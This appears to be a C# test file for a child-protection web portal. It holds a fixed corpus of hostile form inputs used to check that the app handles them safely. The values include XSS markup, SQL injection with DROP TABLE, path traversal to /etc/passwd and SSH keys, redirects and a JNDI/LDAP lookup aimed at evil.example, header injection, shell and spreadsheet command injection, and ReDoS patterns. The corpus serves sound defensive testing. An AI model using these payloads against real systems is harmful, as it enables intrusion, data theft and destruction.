namespace ChildProtection.Tests.Hostile;

/// <summary>Values that no honest form sends. Always the same, so that a failure can be played again.</summary>
internal static class Corpus
{
    /// <summary>Stands in every value that tries to become markup or script.</summary>
    public const string Mark = "nosvoix-xss";

    /// <summary>Where a value that tries to lead elsewhere would lead.</summary>
    public const string Elsewhere = "evil.example";

    /// <summary>The header that a value with line ends would plant.</summary>
    public const string PlantedHeader = "X-Nosvoix-Planted";

    /// <summary>Values that are text, if hostile: a form shown again must show them as they were typed.</summary>
    public static readonly IReadOnlyList<string> Markup =
    [
        $"<{Mark}>", $"</textarea></title><{Mark} {Mark}=1>", $"\"><script>{Mark}</script>", $"'\"` {Mark}=1 onfocus={Mark} autofocus x=", $"<img src=x onerror={Mark}>",
        $"<svg/onload={Mark}>", $"javascript:{Mark}", $"<!--{Mark}--><{Mark}>", $"&lt;{Mark}&gt;<{Mark}>", $"{{{{{Mark}}}}}${{{Mark}}}", $"]]><{Mark}>", $"\\u003c{Mark}\\u003e<{Mark}>",
    ];

    public static readonly IReadOnlyList<string> Values =
    [
        .. Markup,
        "", " ", "\t\r\n", new string('a', 5_000), new string('é', 60_000), string.Concat(Enumerable.Repeat("👩‍👩‍👧‍👦", 2_000)), new string('9', 400), new string(' ', 20_000),
        "0", "-1", "2147483648", "-9223372036854775809", "1e309", "NaN", "Infinity", "0x41", "١٢٣", "1,5", "true", "null", "undefined", "[]", "{}", "[object Object]", "on",
        "0001-01-01", "9999-12-31T23:59:59.9999999+14:00", "2026-02-30", "31/12/2026", "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "{01980000-0000-7000-8000-00000000dead}",
        "a\0b", "\u0001\u0008\u001b[31m", "\u202Egnp.exe", "\u200B\u200D\uFEFF", "e\u0301\u0301\u0301\u0327", "\uD800", "\uDC00\uD800", "\uFFFE\uFFFF", "ﷺ", "İIıi", "ß", "／／", "﹤script﹥",
        "' OR '1'='1", "'; DROP TABLE \"AspNetUsers\"; --", "\" OR 1=1 /*", "1; SELECT pg_sleep(5)", "%' ESCAPE '", "admin'--", "\\'; --", "$$||pg_sleep(5)||$$",
        "../../../../etc/passwd", "..\\..\\web.config", "/etc/passwd\0.md", "file:///etc/passwd", "....//....//etc/passwd", "portal.db", "CON", "~/.ssh/id_rsa", "%2e%2e%2f", "%00", "%", "%zz", "%uD800", "%c0%ae",
        $"//{Elsewhere}", $"https://{Elsewhere}/", $"/\\{Elsewhere}", $"\\\\{Elsewhere}", $"http:{Elsewhere}", $" https://{Elsewhere}", $"/%09/{Elsewhere}", $"https:/{Elsewhere}", $"//localhost@{Elsewhere}/", $"/\t/{Elsewhere}",
        $"x\r\n{PlantedHeader}: 1", $"x%0d%0a{PlantedHeader}: 1", $"x\u560a\u560d{PlantedHeader}: 1",
        "${jndi:ldap://evil.example/a}", "{{7*7}}", "@(7*7)", "<%= 7*7 %>", "#{7*7}", "$(id)", "`id`", "|id", "; id", "=cmd|' /C calc'!A0", "*)(uid=*))(|(uid=*", "(a+)+$", new string('(', 3_000), new string('[', 3_000), "__proto__", "constructor", "System.String",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", "a@" + string.Concat(Enumerable.Repeat("a.", 400)), new string('-', 2_000) + "x", "##########" + new string('*', 2_000), "[a](javascript:nosvoix-xss)", "```\n" + new string('`', 500),
    ];

    /// <summary>A different slice of the corpus for each place, so that all values are used even when not everywhere.</summary>
    public static IEnumerable<string> For(string place, int count)
    {
        var start = place.Aggregate(17, (sum, letter) => unchecked(sum * 31 + letter) & 0x7fffffff) % Values.Count;
        return Enumerable.Range(0, Math.Min(count, Values.Count)).Select(at => Values[(start + at * 7) % Values.Count]).Distinct();
    }
}
